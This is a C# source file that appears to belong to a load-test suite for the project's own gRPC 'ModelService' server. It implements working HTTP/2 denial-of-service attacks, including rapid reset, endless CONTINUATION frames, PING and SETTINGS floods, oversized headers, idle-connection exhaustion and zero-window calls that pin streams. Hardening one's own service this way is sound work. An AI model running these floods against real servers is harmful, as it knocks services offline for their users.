using System.Text;
using Google.Protobuf;
using TopicGrpc.Load.Calls;
using TopicGrpc.Load.Corpora;
using TopicGrpc.V1;
using static TopicGrpc.Load.Calls.RawConnection;

namespace TopicGrpc.Load.Attacks;

/// <summary>Attacks on connections: abuse of HTTP/2 frames, idle connections, clients that do not read.</summary>
internal static class HostileFrames
{
    private const int Window = 65_535;
    private const int BatchFrames = 64;

    /// <summary>Returns the attacks.</summary>
    public static IEnumerable<Attack> All()
    {
        yield return new ConnectionAttack("2000 idle TCP connections", 2000, Reads: true, static (_, _) => Task.CompletedTask);
        yield return new ConnectionAttack(
            "900 connections with a preface and nothing else",
            900,
            Reads: true,
            static (connection, token) => connection.StartAsync(Window, token));
        yield return new ConnectionAttack("rapid reset on 4 connections", 4, Reads: true, RapidResetAsync);
        yield return new ConnectionAttack(
            "pings on 8 connections, answers not read",
            8,
            Reads: false,
            static (connection, token) => FloodAsync(connection, Repeat(Frame(Kind.Ping, 0, 0, new byte[8])), token));
        yield return new ConnectionAttack(
            "SETTINGS on 8 connections, answers not read",
            8,
            Reads: false,
            static (connection, token) => FloodAsync(connection, Repeat(Frame(Kind.Settings, 0, 0, [])), token));
        yield return new ConnectionAttack("CONTINUATION without end on 4 connections", 4, Reads: true, ContinuationAsync);
        yield return new ConnectionAttack("header of 40 KB on 8 connections", 8, Reads: true, LargeHeaderAsync);
        yield return new ConnectionAttack(
            "bytes that are no HTTP/2 on 32 connections",
            32,
            Reads: true,
            static (connection, token) => connection.WriteAsync(Encoding.ASCII.GetBytes("GET / HTTP/1.1\r\nHost: x\r\n\r\n"), token));
        yield return new ConnectionAttack("1000 watches that are never read", 4, Reads: false, WatchAsync);
        yield return new ConnectionAttack("100 exports that are never read", 4, Reads: false, ExportAsync);
    }

    private static async Task FloodAsync(RawConnection connection, byte[] frames, CancellationToken cancellationToken)
    {
        await connection.StartAsync(Window, cancellationToken);
        while (true)
        {
            await connection.WriteAsync(frames, cancellationToken);
        }
    }

    private static async Task RapidResetAsync(RawConnection connection, CancellationToken cancellationToken)
    {
        byte[] block = HeaderBlock("ModelService/ListModels");
        byte[] canceled = [0, 0, 0, 8];
        await connection.StartAsync(Window, cancellationToken);
        for (int stream = 1; stream < int.MaxValue - (2 * BatchFrames);)
        {
            List<byte> frames = [];
            for (int index = 0; index < BatchFrames; index++, stream += 2)
            {
                frames.AddRange(Frame(Kind.Headers, 4, stream, block));
                frames.AddRange(Frame(Kind.Reset, 0, stream, canceled));
            }

            await connection.WriteAsync(frames.ToArray(), cancellationToken);
        }
    }

    private static async Task ContinuationAsync(RawConnection connection, CancellationToken cancellationToken)
    {
        await connection.StartAsync(Window, cancellationToken);
        await connection.WriteAsync(Frame(Kind.Headers, 0, 1, HeaderBlock("ModelService/ListModels")), cancellationToken);
        byte[] frames = Repeat(Frame(Kind.Continuation, 0, 1, [0, 1, (byte)'x', 1, (byte)'y']));
        while (true)
        {
            await connection.WriteAsync(frames, cancellationToken);
        }
    }

    private static async Task LargeHeaderAsync(RawConnection connection, CancellationToken cancellationToken)
    {
        await connection.StartAsync(Window, cancellationToken);
        List<byte> block = [.. HeaderBlock("ModelService/ListModels")];
        byte[] value = Encoding.ASCII.GetBytes(new string('v', 100));
        for (int index = 0; index < 400; index++)
        {
            block.AddRange([0, 2, (byte)'x', (byte)('a' + (index % 26)), 100, .. value]);
        }

        byte[] all = [.. block];
        await connection.WriteAsync(Frame(Kind.Headers, 0, 1, all.AsSpan(0, 16_000)), cancellationToken);
        await connection.WriteAsync(Frame(Kind.Continuation, 0, 1, all.AsSpan(16_000, 16_000)), cancellationToken);
        await connection.WriteAsync(Frame(Kind.Continuation, 4, 1, all.AsSpan(32_000)), cancellationToken);
    }

    private static Task WatchAsync(RawConnection connection, CancellationToken cancellationToken) => CallAsync(
        connection,
        "ModelService/WatchModel",
        new WatchModelRequest { Name = "models/" + Preparation.All },
        250,
        cancellationToken);

    private static Task ExportAsync(RawConnection connection, CancellationToken cancellationToken) => CallAsync(
        connection,
        "ModelService/ExportModel",
        new ExportModelRequest { Selector = new ModelSelector { Model = "models/" + Preparation.All } },
        25,
        cancellationToken);

    /// <summary>Makes calls whose answers the server cannot send, because the window of their streams is empty.</summary>
    private static async Task CallAsync(
        RawConnection connection,
        string method,
        IMessage request,
        int calls,
        CancellationToken cancellationToken)
    {
        await connection.StartAsync(0, cancellationToken);
        for (int call = 0; call < calls; call++)
        {
            await connection.WriteAsync(Call((2 * call) + 1, method, request.ToByteArray()), cancellationToken);
        }
    }

    private static byte[] Repeat(byte[] frame) => [.. Enumerable.Repeat(frame, BatchFrames).SelectMany(static bytes => bytes)];
}
